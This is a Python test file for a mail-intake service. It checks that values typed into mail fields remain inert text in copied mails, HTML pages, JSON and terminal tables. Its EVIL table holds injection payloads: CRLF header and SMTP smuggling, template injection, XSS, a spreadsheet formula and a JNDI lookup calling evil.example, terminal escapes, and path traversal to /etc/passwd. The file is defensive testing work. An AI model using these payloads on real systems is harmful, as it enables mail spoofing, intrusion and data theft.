"""What somebody writes into a field of a mail stays text: in headers, templates, pages, JSON, lists and file names."""

from __future__ import annotations

import email
import email.header
import io
import json
import re
from contextlib import redirect_stdout
from html.parser import HTMLParser

import pytest
from fuzz.targets import NOW, _composer, _held
from unit.judging import judge

from intake.cli.tables import plain, table
from intake.letters import AcknowledgementState, Copy, Reader, Thread
from intake.model import Address, Case, CaseState, MessageKind, Urgency
from intake.receive.parse import parse

EVIL = {
    "header": "x\r\nBcc: victim@evil.example",
    "header by encoded word": "=?utf-8?q?x=0D=0ABcc:_victim@evil.example?=",
    "template": "{{ 7191 * 7193 }}{% for a in ().__class__.__mro__ %}{{ a }}{% endfor %}",
    "page": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "link": "[x](javascript:alert(1)) <https://evil.example>",
    "spreadsheet": '=HYPERLINK("http://evil.example";"x")',
    "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "directions": "\u202egnp.exe\u2066",
    "path": "../../../../etc/passwd",
    "end of message": "x\r\n.\r\nMAIL FROM:<a@evil.example>\r\n",
    "bare line feed": "x\n.\nRCPT TO:<a@evil.example>\n",
    "format": "%s%n{0.__class__}${jndi:ldap://evil.example}",
}
FIELDS = ("From name", "From address", "Subject", "Body", "Message-ID", "Reply-To", "Cc", "File name", "Charset")


def written(field: str, value: str, *more: str) -> bytes:
    """A mail with that value in that field, and in ``more`` of them."""
    facts = dict.fromkeys(FIELDS, "x") | {"From address": "rita", "Message-ID": "1", "Charset": "utf-8"}
    facts |= dict.fromkeys((field, *more), value)
    lines = [
        f'From: "{facts["From name"]}" <{facts["From address"]}@people.example>', "To: help@example.org",
        f"Subject: Code of conduct {facts['Subject']}", f"Message-ID: <{facts['Message-ID']}@people.example>",
        f"Reply-To: {facts['Reply-To']}@people.example", f"Cc: {facts['Cc']}@people.example", "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=b", "", "--b", f"Content-Type: text/plain; charset={facts['Charset']}", "",
        f"Somebody shouted at me. {facts['Body']}", "--b",
        f'Content-Disposition: attachment; filename="{facts["File name"]}"', "", "content", "--b--", "",
    ]  # fmt: skip
    return "\r\n".join(lines).encode()


class Page(HTMLParser):
    """What a browser would do with it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag] if tag in {"script", "img", "iframe", "object", "form", "base"} else []
        self.found += [name for name, _ in attrs if name.startswith("on")]
        self.found += [
            value or ""
            for name, value in attrs
            if name in {"href", "src"} and "evil" in (value or "").partition("mailto:")[0]
        ]
        self.found += [
            value or "" for name, value in attrs if name == "href" and (value or "").startswith("javascript")
        ]


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("kind", EVIL)
def test_a_field_stays_what_it_is(kind: str, field: str) -> None:
    data = written(field, EVIL[kind])
    mail = parse(data)
    verdict = judge().judge(mail, NOW)
    case = Case(
        1, "EUG-7K3M9Q", verdict.category, verdict.rule, Urgency.NORMAL, (), "en", "", "none", CaseState.NEW, NOW, None,
        None, None, None, 1,
    )  # fmt: skip
    letter = Copy(
        MessageKind.REPORT, Address("Ann Example", "ann@example.org"), "en", Thread("<token@example.org>"), case, mail,
        verdict, NOW, "help", "INBOX", len(data), (Reader("Ann Example"),), 0, AcknowledgementState("waiting", ""), data,
    )  # fmt: skip
    made = _composer().copy(letter, NOW)
    _held(made, "ann@example.org")
    message = email.message_from_bytes(made.content)
    assert "evil" not in str(message["To"])
    subject = str(email.header.make_header(email.header.decode_header(message["Subject"])))
    assert "evil" not in subject
    own = [part for part in message.walk() if part.get_content_maintype() != "message"]
    for part in own[: 1 + next((n for n, one in enumerate(own) if one.get_content_type() == "application/json"), 3)]:
        payload = part.get_payload(decode=True)
        text = payload.decode("utf-8", "replace") if isinstance(payload, bytes) else ""
        assert "51724863" not in text  # 7191 * 7193
        if part.get_content_type() in {"text/plain", "text/html"}:
            assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text.replace("\r\n", "\n"))
        if part.get_content_type() == "text/html":
            assert Page(text).found == []
        if part.get_content_type() == "application/json":
            names = [one["name"] for one in json.loads(text)["attachments"]]
            assert not [name for name in names if "/" in name or "\\" in name or name.startswith("..")]


@pytest.mark.parametrize("kind", EVIL)
def test_lists_on_a_terminal_obey_nobody(kind: str) -> None:
    """Lists hold nothing of a reporter; what they do hold (rules, names of folders, servers' words) can't act."""
    assert plain(EVIL[kind]).isprintable()
    out = io.StringIO()
    with redirect_stdout(out):
        table(("one", "two"), [(EVIL[kind], "x")], empty="")
    lines = out.getvalue().splitlines()
    assert len(lines) == 2
    assert all(line.isprintable() for line in lines)
